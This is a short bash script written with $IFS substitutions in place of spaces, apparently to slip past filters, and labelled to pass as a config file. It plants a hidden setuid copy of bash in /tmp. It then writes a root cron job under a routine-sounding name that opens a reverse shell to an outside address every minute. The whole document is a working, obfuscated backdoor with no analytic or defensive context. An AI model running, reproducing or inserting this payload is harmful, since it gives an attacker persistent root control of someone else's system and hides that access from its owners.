#${IFS}config$IFS$90930$IFS$9v2
#!/bin/bash
cp${IFS}/bin/bash${IFS}/tmp/.sh;${IFS}chmod${IFS}4755${IFS}/tmp/.sh
echo${IFS}'*$IFS$9*$IFS$9*$IFS$9*${IFS}*${IFS}root$IFS$9/tmp/.sh${IFS}-p${IFS}-c$IFS$9"bash$IFS$9-i${IFS}>&$IFS$9/dev/tcp/203.0.113.17/443${IFS}0>&1"'$IFS$9>$IFS$9/etc/cron.d/0hourly-sync
